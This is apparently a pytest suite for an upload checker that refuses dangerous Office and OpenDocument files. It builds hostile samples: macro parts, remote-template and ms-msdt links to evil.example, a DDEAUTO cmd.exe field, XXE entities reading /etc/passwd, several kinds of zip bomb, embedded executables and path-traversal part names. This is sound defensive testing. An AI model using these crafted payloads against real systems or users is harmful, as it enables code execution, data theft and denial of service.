"""Office files with more in them than a document: macros, links that fetch, other files, bombs, names that lead out."""

import hashlib
import io
import stat
import struct
import zipfile

import pytest

from foundations.documents import packages
from foundations.documents.checks import check_upload
from foundations.documents.packages import MOST_NESTED, MOST_PARTS, OLE
from tests.documents.conftest import CONTENT, OFFICE, office, open_document, zipped
from tests.documents.test_checks import refusal

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relations(*entries: tuple[str, str]) -> str:
    items = "".join(
        f'<Relationship Id="r{number}" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(entries)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="x">{items}</Relationships>'


def raw(change, parts=None) -> bytes:
    """An archive whose parts are written by `change(archive)` after those of a good document."""
    buffer = io.BytesIO(office("docx", **(parts or {})))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return buffer.getvalue()


# --- macros --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", office("docx", **{"word/vbaProject.bin": "x"})),
        ("a.docx", office("docx", **{"word/VBAPROJECT.BIN": "x"})),
        ("a.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"})),
        (
            "a.xlsx",
            zipped({"[Content_Types].xml": '<T><O ContentType="application/vnd.ms-excel.sheet.macroEnabled"/></T>'}),
        ),
        (
            "a.docx",
            zipped(
                {
                    "[Content_Types].xml": '<T><O ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
                    '<O ContentType="application/vnd.ms-office.vbaProject"/></T>'
                }
            ),
        ),
        ("a.docm", office("docx")),
        ("a.xlsb", office("xlsx")),
        ("a.odt", open_document("text", **{"Basic/Standard/Module1.xml": "x"})),
        ("a.ods", open_document("spreadsheet", **{"Scripts/python/a.py": "x"})),
        (
            "a.odt",
            open_document("text", **{"styles.xml": '<s:x xmlns:s="urn:s"><s:event-listener/></s:x>'}),
        ),
    ],
)
def test_macros(upload, name, content):
    code, words = refusal(upload(name, content))
    assert code == "macros"
    assert words.endswith("Save it as a file without macros and select that file")


# --- what is fetched from elsewhere --------------------------------------------------------------------


@pytest.mark.parametrize(
    "entry",
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
        ("image", "https://evil.example/seen.png"),
        ("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x"),
        ("frame", "https://evil.example/"),
        ("hyperlink", "file://evil.example/share"),
        ("hyperlink", "\\\\evil.example\\share"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id"),
    ],
)
@pytest.mark.asvs("V1.3.6")
def test_parts_that_are_fetched(upload, entry):
    code, words = refusal(upload("a.docx", office("docx", **{"word/_rels/settings.xml.rels": relations(entry)})))
    assert code == "links"
    assert "Break those links" in words


def test_links_that_somebody_has_to_follow_may_stay(upload):
    links = relations(("hyperlink", "https://www.gov.uk/"), ("hyperlink", "mailto:a@b.example"))
    assert check_upload(upload("a.docx", office("docx", **{"word/_rels/document.xml.rels": links})))


def test_another_workbook_and_dynamic_data(upload):
    assert refusal(upload("a.xlsx", office("xlsx", **{"xl/externalLinks/externalLink1.xml": "<x/>"})))[0] == "links"
    field = "<w><instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</instrText></w>"
    assert refusal(upload("a.docx", office("docx", **{"word/document.xml": field})))[0] == "links"


@pytest.mark.parametrize(
    ("element", "taken"),
    [
        ('<d:image x:href="https://evil.example/seen.png"/>', False),
        ('<d:object x:href="//evil.example/o"/>', False),
        ('<t:section-source x:href="file:///etc/passwd"/>', False),
        ('<t:a x:href="vnd.sun.star.script://x"/>', False),
        ('<t:a x:href="https://www.gov.uk/">GOV.UK</t:a>', True),
        ('<d:image x:href="Pictures/1.png"/>', True),
    ],
)
def test_open_documents_fetch_nothing(upload, element, taken):
    body = f'<o xmlns:d="urn:d" xmlns:t="urn:t" xmlns:x="http://www.w3.org/1999/xlink">{element}</o>'
    content = zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": body})
    if taken:
        assert check_upload(upload("a.odt", content)) == "application/vnd.oasis.opendocument.text"
    else:
        assert refusal(upload("a.odt", content))[0] == "links"


# --- XXE -----------------------------------------------------------------------------------------------

XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize("xml", [XXE, LAUGHS, "<!-- " + "x" * 70_000 + " -->" + XXE.split("?>")[1]])
@pytest.mark.parametrize("part", ["[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"])
@pytest.mark.asvs("V1.5.1")
def test_no_entity_is_ever_resolved(upload, xml, part):
    parts = {"[Content_Types].xml": f'<T><O ContentType="{OFFICE}wordprocessingml.document.main+xml"/></T>', part: xml}
    code, words = refusal(upload("a.docx", zipped(parts)))
    assert code == "archive"
    assert "not put together as a DOCX file" in words
    assert "root:" not in words


def test_no_entity_in_another_encoding(upload):
    def add(archive):
        archive.writestr("word/document.xml", XXE.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16"))

    assert refusal(upload("a.docx", raw(add)))[0] == "archive"


def test_no_entity_in_an_open_document(upload):
    assert refusal(upload("a.odt", open_document("text", **{"styles.xml": XXE})))[0] == "archive"


# --- bombs (U1, U2) --------------------------------------------------------------------------------------


@pytest.mark.asvs("V5.2.3")
def test_a_flat_bomb(upload):
    """Ten sheets of 40 MB of nothing: 400 kB on disk."""

    def add(archive):
        for number in range(10):
            with archive.open(f"word/media/{number}.bin", "w") as part:
                for _ in range(40):
                    part.write(bytes(1024 * 1024))

    content = raw(add)
    assert len(content) < 1024 * 1024
    code, words = refusal(upload("a.docx", content))
    assert (code, words.split(". ")[0]) == ("bomb", "The selected file unpacks to far more than it shows")


def test_a_part_that_is_packed_too_well(upload):
    assert refusal(upload("a.docx", office("docx", **{"word/x.xml": " " * (11 * 1024 * 1024)})))[0] == "bomb"


def test_a_bomb_that_lies_about_its_size(upload):
    """The list says 10 bytes, the part unpacks to 20 MB: the checksum of what the list promised is wrong."""
    content = bytearray(office("docx", **{"word/x.bin": "x" * (20 * 1024 * 1024)}))
    place = content.index(b"PK\x01\x02", content.rindex(b"word/x.bin") - 60)
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    assert refusal(upload("a.docx", bytes(content)))[0] == "content"


@pytest.mark.asvs("V5.2.3")
def test_a_hundred_thousand_parts(upload):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(MOST_PARTS + 1):
            archive.writestr(f"{number}", b"")
    assert refusal(upload("a.docx", buffer.getvalue()))[0] == "bomb"


def test_a_long_list_of_parts_is_not_even_read(upload, monkeypatch):
    """100 MB of list would be a gigabyte of objects: the end of the file gives it away."""
    content = bytearray(CONTENT["docx"])
    content[-22 + 8 : -22 + 12] = struct.pack("<HH", 65_535, 65_535)
    monkeypatch.setattr(packages, "ZipFile", None)
    assert refusal(upload("a.docx", bytes(content)))[0] == "bomb"


def test_parts_that_share_their_bytes(upload):
    """The better bomb: many entries of the list point to one part."""
    content = office("docx", **{"word/x.bin": "".join(hashlib.sha256(b"%d" % n).hexdigest() for n in range(50))})
    end = content.rindex(b"PK\x05\x06")
    count, length, offset = struct.unpack("<HII", content[end + 10 : end + 20])
    entries = content[offset : offset + length]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/x.bin", b"word/%c.bin" % letter) for letter in range(65, 65 + 20))
    more = content[:offset] + entries + copies
    more += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count + 20, count + 20, length + len(copies), offset, 0)
    assert refusal(upload("a.docx", more))[0] == "bomb"


def test_bombs_inside_each_other(upload):
    inner = office("xlsx")
    for _ in range(3):
        inner = raw_nested(inner)
    assert refusal(upload("a.docx", inner))[0] == "attachments"


def raw_nested(inner: bytes) -> bytes:
    return raw(lambda archive: archive.writestr("word/embeddings/inner.docx", inner))


# --- what is inside --------------------------------------------------------------------------------------


def test_the_workbook_behind_a_chart_may_stay(upload):
    content = raw(lambda archive: archive.writestr("word/embeddings/chart.xlsx", CONTENT["xlsx"]))
    assert check_upload(upload("a.docx", content))


@pytest.mark.parametrize(
    ("name", "inner"),
    [
        ("word/embeddings/a.zip", zipped({"a.exe": "MZ"})),
        ("word/embeddings/a.docx", zipped({"a.exe": "MZ"})),
        ("word/embeddings/oleObject1.bin", OLE + b"x"),
        ("word/media/a.png", OLE + b"x"),
        ("word/media/a.exe", b"MZ\x90\x00" + b"x"),
        ("word/media/a", b"\x7fELF"),
        ("word/embeddings/a.pdf", b"%PDF-1.7"),
        ("word/media/a.rar", b"Rar!\x1a\x07"),
        ("word/media/a.7z", b"7z\xbc\xaf\x27\x1c"),
    ],
)
def test_other_files_inside(upload, name, inner):
    code, words = refusal(upload("a.docx", raw(lambda archive: archive.writestr(name, inner))))
    assert code == "attachments"
    assert words.startswith("The selected file has other files inside it. Take them out")


def test_macros_in_the_workbook_behind_a_chart(upload):
    inner = office("xlsx", **{"xl/vbaProject.bin": "x"})
    content = raw(lambda archive: archive.writestr("word/embeddings/chart.xlsx", inner))
    assert refusal(upload("a.docx", content))[0] == "macros"


def test_a_large_file_inside_is_not_followed(upload, monkeypatch):
    monkeypatch.setattr(packages, "MOST_NESTED", 10)
    assert MOST_NESTED > 10
    content = raw(lambda archive: archive.writestr("word/embeddings/chart.xlsx", CONTENT["xlsx"]))
    assert refusal(upload("a.docx", content))[0] == "attachments"


def test_active_x(upload):
    listing = (
        f'<T><O ContentType="{OFFICE}wordprocessingml.document.main+xml"/>'
        '<O ContentType="application/vnd.ms-office.activeX+xml"/></T>'
    )
    assert refusal(upload("a.docx", zipped({"[Content_Types].xml": listing})))[0] == "attachments"


# --- names and kinds of parts (U3, U4) ----------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/x", "/etc/passwd", "word/../../x", "C:/x", "word\\..\\x", "a\x07b", "x" * 600]
)
@pytest.mark.asvs("V5.3.2")
def test_parts_whose_names_lead_out(upload, name):
    info = zipfile.ZipInfo("placeholder")
    info.filename = name
    content = raw(lambda archive: archive.writestr(info, "x"))
    assert refusal(upload("a.docx", content))[0] == "archive"


@pytest.mark.asvs("V5.2.5")
def test_a_link_as_a_part(upload):
    info = zipfile.ZipInfo("word/media/image1.png")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    assert refusal(upload("a.docx", raw(lambda archive: archive.writestr(info, "/etc/passwd"))))[0] == "archive"


def test_the_same_name_twice(upload):
    content = raw(lambda archive: archive.writestr("MAIN.xml", "<y/>"))
    assert refusal(upload("a.docx", content))[0] == "archive"


def test_an_unusual_way_of_packing(upload):
    content = raw(lambda archive: archive.writestr("word/x.xml", "<x/>", zipfile.ZIP_LZMA))
    assert refusal(upload("a.docx", content))[0] == "archive"


def test_a_locked_archive(upload):
    content = bytearray(CONTENT["docx"])
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert refusal(upload("a.docx", bytes(content)))[0] == "password"
    manifest = '<m:x xmlns:m="urn:m"><m:encryption-data/></m:x>'
    code, words = refusal(upload("a.odt", open_document("text", **{"META-INF/manifest.xml": manifest})))
    assert (code, words) == (
        "password",
        "The selected file is protected by a password. Save it without one and select that file",
    )


def test_a_part_with_a_wrong_checksum(upload):
    content = bytearray(office("docx", **{"word/x.bin": "x" * 1000}))
    place = content.index(b"PK\x01\x02", content.rindex(b"word/x.bin") - 60)
    content[place + 16] ^= 0xFF
    assert refusal(upload("a.docx", bytes(content)))[0] == "content"
